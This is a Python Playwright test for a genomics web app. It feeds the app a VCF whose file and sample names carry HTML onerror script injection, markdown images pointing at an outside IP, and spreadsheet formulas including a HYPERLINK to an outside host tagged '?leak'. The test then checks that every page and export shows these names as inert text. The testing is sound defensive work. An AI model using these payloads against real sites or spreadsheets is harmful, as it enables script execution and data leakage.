"""Hostile names in a real browser: a file named with markdown and HTML, a sample named so, formula sample names in
a cohort; every page visited and the exports downloaded, with every request off 127.0.0.1 blocked.

Pass: zero outside requests, zero dialogs, no <img> whose source (nor link in the page whose target) is not
this server or data:, the names shown as
text, and no CSV cell that starts with '='. Screenshots go to ``artifacts/hostile_*.png``.
"""

from __future__ import annotations

import csv
import gzip
import io
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.e2e.browser import CHROMIUM, block_outside, screenshot, streamlit_app, wait_idle

ROOT = Path(__file__).resolve().parents[2]
DEMO = ROOT / "data" / "demo"
TIMEOUT_MS = 180_000
HOSTILE_FILE = "x`![fn](http://203.0.113.13/fn.png)`<img src=x onerror=alert(7)>.vcf"
HOSTILE_SAMPLE = "![x](http://203.0.113.13/x.png)<img src=x onerror=alert(1)>"
FORMULA_SAMPLE = '=HYPERLINK("http://203.0.113.13/?leak","open")'

pytestmark = [pytest.mark.e2e, pytest.mark.skipif(not CHROMIUM.is_file(), reason=f"{CHROMIUM} is absent")]


def _renamed(demo: str, names: list[str]) -> bytes:
    """A demo VCF, uncompressed, with its sample columns renamed to ``names``."""
    lines = gzip.decompress((DEMO / demo).read_bytes()).decode().split("\n")
    at = next(i for i, line in enumerate(lines) if line.startswith("#CHROM"))
    fields = lines[at].split("\t")
    assert len(fields) == 9 + len(names)
    lines[at] = "\t".join(fields[:9] + names)
    return "\n".join(lines).encode()


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """`streamlit run app.py` with a server folder holding a trio whose samples have hostile names."""
    folder = tmp_path_factory.mktemp("server_folder")
    (folder / "cohort_hostile.vcf").write_bytes(
        _renamed("trio_cyp2c19_brca2.vcf.gz", [FORMULA_SAMPLE, HOSTILE_SAMPLE, "+SUM(1,1)"]))
    # a cohort job reads a file of several chromosomes only bgzipped (bio2zarr; the job indexes it privately)
    subprocess.run(["bgzip", "-f", str(folder / "cohort_hostile.vcf")], check=True)
    mp = pytest.MonkeyPatch()
    mp.setenv("GENOLENS_VCF_DIR", str(folder))
    try:
        with streamlit_app(folder.parent / "hostile_server.log") as (url, _pid):
            yield url
    finally:
        mp.undo()


def _outside_images(page: Page, url: str) -> list[str]:
    """Sources of <img> elements not on this server nor data:, and links in the page body that lead off it."""
    srcs: list[str] = page.evaluate("() => [...document.querySelectorAll('img')].map(i => i.src)")
    hrefs: list[str] = page.evaluate(
        "() => [...document.querySelectorAll('[data-testid=stMain] a[href]')].map(a => a.href)")
    return [s for s in srcs + hrefs if not (s.startswith(url) or s.startswith("data:"))]


def _shown(page: Page) -> str:
    """The page body's text as a reader sees it (the invisible word joiners that break autolinks removed)."""
    return page.get_by_test_id("stMain").inner_text().replace("\u2060", "")


def _go(page: Page, title: str) -> None:
    page.get_by_test_id("stSidebarNavLink").filter(has_text=title).click()
    expect(page.get_by_role("heading", name=title, exact=True).first).to_be_visible(timeout=TIMEOUT_MS)
    wait_idle(page, TIMEOUT_MS)


def test_hostile_names_stay_text_everywhere(browser: Browser, hostile_server: str, artifacts_dir: Path) -> None:
    context = browser.new_context(base_url=hostile_server, viewport={"width": 1400, "height": 900},
                                  accept_downloads=True)
    blocked = block_outside(context)
    dialogs: list[str] = []
    page = context.new_page()
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto("/")
    expect(page.get_by_text("Research use only")).to_be_visible(timeout=60_000)
    wait_idle(page, TIMEOUT_MS)

    page.get_by_test_id("stRadio").get_by_text("Upload a file").click()
    wait_idle(page, TIMEOUT_MS)
    page.get_by_test_id("stFileUploader").filter(has_text="of one patient") \
        .get_by_test_id("stFileUploaderDropzoneInput").set_input_files(
            {"name": HOSTILE_FILE, "mimeType": "text/plain",
             "buffer": _renamed("dpyd_2A_heterozygote.vcf.gz", [HOSTILE_SAMPLE])})
    expect(page.get_by_text("Genome build: GRCh38")).to_be_visible(timeout=TIMEOUT_MS)
    wait_idle(page, TIMEOUT_MS)
    assert HOSTILE_SAMPLE in _shown(page) and HOSTILE_FILE in _shown(page)
    assert _outside_images(page, hostile_server) == []
    screenshot(page, artifacts_dir / "hostile_patient.png", TIMEOUT_MS)

    for title in ("Report", "Risk", "Treatment", "Explorer"):
        _go(page, title)
        assert HOSTILE_SAMPLE in _shown(page), title
        assert _outside_images(page, hostile_server) == [], title
    _go(page, "Report")
    screenshot(page, artifacts_dir / "hostile_report.png", TIMEOUT_MS)
    with page.expect_download(timeout=TIMEOUT_MS) as dl:
        page.get_by_role("button", name="Download HTML").click()
    report = Path(dl.value.path()).read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(1)&gt;" in report and "<img" not in report
    assert dl.value.suggested_filename.startswith("genolens_") and "/" not in dl.value.suggested_filename

    _go(page, "Cohort")
    page.get_by_role("combobox", name="Multi-sample VCF", exact=True).click()
    page.get_by_role("option", name="cohort_hostile.vcf.gz", exact=True).click()
    wait_idle(page, TIMEOUT_MS)
    # every sample gets details (sex, age), so every model scores it and the matrix lists all three names
    details = "".join(f'["{n.replace(chr(34), chr(92) + chr(34))}"]\nsex = "female"\nage = 50\n\n'
                      for n in (FORMULA_SAMPLE, HOSTILE_SAMPLE, "+SUM(1,1)"))
    page.get_by_test_id("stFileUploader").filter(has_text="Sample details") \
        .get_by_test_id("stFileUploaderDropzoneInput").set_input_files(
            {"name": "details.toml", "mimeType": "text/plain", "buffer": details.encode()})
    expect(page.get_by_text("Details for 3 of 3 samples", exact=False)).to_be_visible(timeout=TIMEOUT_MS)
    wait_idle(page, TIMEOUT_MS)
    page.get_by_role("button", name=re.compile(r"^Run the cohort job on ")).click()
    expect(page.get_by_text("3 samples", exact=False).first).to_be_visible(timeout=TIMEOUT_MS)
    wait_idle(page, TIMEOUT_MS)
    assert _outside_images(page, hostile_server) == []
    button = page.get_by_role("button", name="Download these rows (CSV)")
    expect(button).to_be_visible(timeout=TIMEOUT_MS)
    with page.expect_download(timeout=TIMEOUT_MS) as dl:
        button.click(timeout=TIMEOUT_MS)
    rows = list(csv.reader(io.StringIO(Path(dl.value.path()).read_text(encoding="utf-8"))))
    cells = [c for row in rows for c in row]
    assert "'" + FORMULA_SAMPLE in cells and "'+SUM(1,1)" in cells and HOSTILE_SAMPLE in cells
    assert [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))] == []
    screenshot(page, artifacts_dir / "hostile_cohort.png", TIMEOUT_MS)

    assert dialogs == [], dialogs
    assert blocked == [], f"the page asked for something off this machine: {blocked}"
    context.close()
